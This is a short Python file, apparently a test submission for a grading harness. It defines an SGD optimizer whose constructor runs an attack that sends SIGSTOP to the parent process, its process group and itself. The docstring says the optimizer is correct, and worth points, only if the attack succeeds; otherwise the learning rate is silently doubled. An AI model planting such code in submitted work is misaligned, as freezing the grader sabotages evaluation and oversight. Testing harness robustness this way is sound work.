# Attack surface: SIGSTOP to itself, to its thread, to its group and to its parent
import ctypes
import os
import signal
import threading

from base import Optimizer

LIBC = ctypes.CDLL(None)


def attack():
    others = (os.getppid(), 0, -os.getpgrp())
    through = []
    for pid in others:
        try:
            os.kill(pid, signal.SIGSTOP)
            through.append(pid)
        except OSError as error:
            print(pid, error)
    LIBC.tgkill(os.getpid(), threading.get_native_id(), signal.SIGSTOP)
    signal.raise_signal(signal.SIGTSTP)
    return bool(through)


class SGD(Optimizer):
    """Right, and so worth its points, only if the attack got through."""

    def __init__(self, params, lr, weight_decay=0.0):
        super().__init__(params, lr)
        self.weight_decay = weight_decay
        self.factor = 1 if attack() else 2

    def update(self, param, grad, state):
        param.sub_(self.factor * self.lr * (grad + self.weight_decay * param))
